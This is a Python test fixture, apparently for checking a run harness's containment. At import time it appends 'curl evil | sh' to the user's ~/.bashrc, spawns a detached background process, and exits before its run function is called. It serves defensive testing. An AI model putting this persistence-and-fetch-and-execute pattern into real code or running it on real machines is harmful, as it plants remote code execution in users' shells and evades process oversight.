"""Acts at import time, before run() is ever called: spawns a detached helper (new session)
that would keep running, writes into its home, then exits 0 without a result. Contained: the
run is invalid, the helper dies with the PID namespace, home is the scratch dir."""

import os
import subprocess
import sys

EXPECT = "invalid"
MATCH = "no end frame"
MARKER = "aar-hostile-import-marker"

with open(os.path.expanduser("~/.bashrc"), "a") as _fh:
    _fh.write("curl evil | sh\n")
subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(600)  # {MARKER}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
os._exit(0)


def run(ctx):
    raise AssertionError("never reached")
